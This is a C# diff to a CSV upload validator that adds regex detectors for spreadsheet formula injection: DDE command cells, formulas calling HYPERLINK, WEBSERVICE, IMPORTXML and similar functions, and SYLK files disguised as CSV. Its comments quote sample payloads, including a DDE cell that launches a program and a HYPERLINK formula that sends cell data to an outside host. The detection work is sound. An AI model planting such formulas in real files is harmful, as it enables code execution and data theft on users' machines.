@@ -24,7 +24,7 @@ internal static partial class TextContent
             return (null, FileRefusal.Active);
         if (extension != "csv")
             return (FileType.Txt, null);
-        return Command().IsMatch(text) ? (null, FileRefusal.Active) : (FileType.Csv, null);
+        return Command().IsMatch(text) || Call().IsMatch(text) || Sylk().IsMatch(text) ? (null, FileRefusal.Active) : (FileType.Csv, null);
     }
 
     private static ReadOnlySpan<char> Controls =>
@@ -38,6 +38,25 @@ internal static partial class TextContent
     private static partial Regex Markup();
 
     /// <summary>A cell that asks another program for its value: <c>=cmd|'/C calc'!A0</c>.</summary>
-    [GeneratedRegex(@"(?:^|[,;\t\n""])[ ""]*[=+@-][^,;\t\n|]*\|[^\n!]*!", RegexOptions.CultureInvariant | RegexOptions.NonBacktracking)]
+    [GeneratedRegex(@"(?:^|[,;\t\r\n""])[ ""]*[=+@-][^,;\t\r\n|]*\|[^\n!]*!", RegexOptions.CultureInvariant | RegexOptions.NonBacktracking)]
     private static partial Regex Command();
+
+    /// <summary>A cell whose formula reaches out of the table: <c>=HYPERLINK("http://example.com/?"&amp;A1)</c>.</summary>
+    [GeneratedRegex(
+        @"(?:(?:^|[,;\t\r\n])[ ]*[=+@-][^,;\t\r\n]*|""[ ""]*[=+@-](?:[^""]|"""")*)"
+            + @"\b(?:(?:HYPERLINK|WEBSERVICE|IMPORT(?:XML|DATA|FEED|HTML|RANGE)|RTD|SQL\.REQUEST)[ ]*"
+            + @"|IMAGE|EXEC|CALL|REGISTER(?:\.ID)?|DDE)\(",
+        RegexOptions.IgnoreCase | RegexOptions.CultureInvariant | RegexOptions.NonBacktracking
+    )]
+    private static partial Regex Call();
+
+    /// <summary>
+    /// A table of another kind, which Excel opens by its beginning whatever its name is, with formulas and macros. A table whose first
+    /// column is called "ID" has no line of its cells.
+    /// </summary>
+    [GeneratedRegex(
+        @"^[\s\u00EF\u00BB\u00BF\uFEFF]*ID;(?:.|\n)*[\r\n][ \t]*C;",
+        RegexOptions.IgnoreCase | RegexOptions.CultureInvariant | RegexOptions.NonBacktracking
+    )]
+    private static partial Regex Sylk();
 }
